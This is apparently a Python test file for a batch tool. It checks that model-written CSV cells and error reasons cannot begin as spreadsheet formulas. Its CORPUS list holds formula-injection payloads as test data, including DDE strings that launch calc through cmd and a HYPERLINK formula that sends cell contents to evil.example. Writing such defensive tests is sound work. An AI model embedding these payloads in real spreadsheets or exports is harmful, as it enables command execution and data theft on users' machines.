"""What a model says is untrusted: no cell that it can fill begins as a formula does, all the way to the outbox."""

from __future__ import annotations

import csv
import io

import pytest

from batchd.domain.routing import PluginSpec
from batchd.model import Failure, Json
from batchd.testing.fakes import FakeService

from ..engine.conftest import MakeHousehold, csv_of, route
from ..engine.conftest import make_household as make_household

pytestmark = pytest.mark.slow

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '"=1+1"',
    '","=1+1',
    "fine\n=1+1",
    "=1+1;=2+2",
    "-",
    "=",
    "'=1+1",
    "DDE(=1)",
    "=" * 40_000,
]
SEPARATED = PluginSpec(
    "template",
    {"user": "Review: {{ review }}", "columns": ["first", "second"], "separator": "|||"},
)


def cells(text: bytes) -> list[dict[str, str]]:
    """The rows of a results file."""
    return list(csv.DictReader(io.StringIO(text.decode("utf-8"), newline="")))


async def results(make_household: MakeHousehold) -> list[dict[str, str]]:
    """Every entry of the corpus as an answer of two columns, and as the reason of a failure."""

    def answer(body: dict[str, Json]) -> str | Failure:
        number = int(str(body["messages"][-1]["content"]).split()[-1])  # type: ignore[index, call-overload]
        if number >= len(CORPUS):
            return Failure("refused", CORPUS[number - len(CORPUS)])
        return f"{CORPUS[number]}|||{CORPUS[number]}"

    household = make_household(service=FakeService(answer), routes=(route(prompt=SEPARATED),))
    household.drop("reviews/may.csv", csv_of([str(number) for number in range(2 * len(CORPUS))]))
    async with household.living() as daemon:
        await daemon.take_in()
        await daemon.drain()
    return cells(household.outbox()["reviews/may.results.csv"])


async def test_no_cell_that_a_model_fills_is_a_formula(make_household: MakeHousehold) -> None:
    rows = await results(make_household)
    assert len(rows) == 2 * len(CORPUS)
    filled = [row[column] for row in rows for column in ("first", "second", "error")]
    assert [cell for cell in filled if cell.startswith(DANGEROUS)] == []
    # Nothing of it is lost for that.
    for number, text in enumerate(CORPUS):
        said = rows[number]["first"]
        assert said.removeprefix("'").strip() == text.removeprefix("'").strip(), text
    assert {row["status"] for row in rows[: len(CORPUS)]} == {"ok"}
    assert {row["status"] for row in rows[len(CORPUS) :]} == {"failed"}


@pytest.mark.parametrize("number", ["-5", "+3.2", "-1,000.50", "-1e-7"])
async def test_a_number_with_a_sign_stays_a_number(make_household: MakeHousehold, number: str) -> None:
    household = make_household(service=FakeService(lambda _: number))
    household.drop("reviews/may.csv", csv_of(["one"]))
    async with household.living() as daemon:
        await daemon.take_in()
        await daemon.drain()
    assert cells(household.outbox()["reviews/may.results.csv"])[0]["answer"] == number
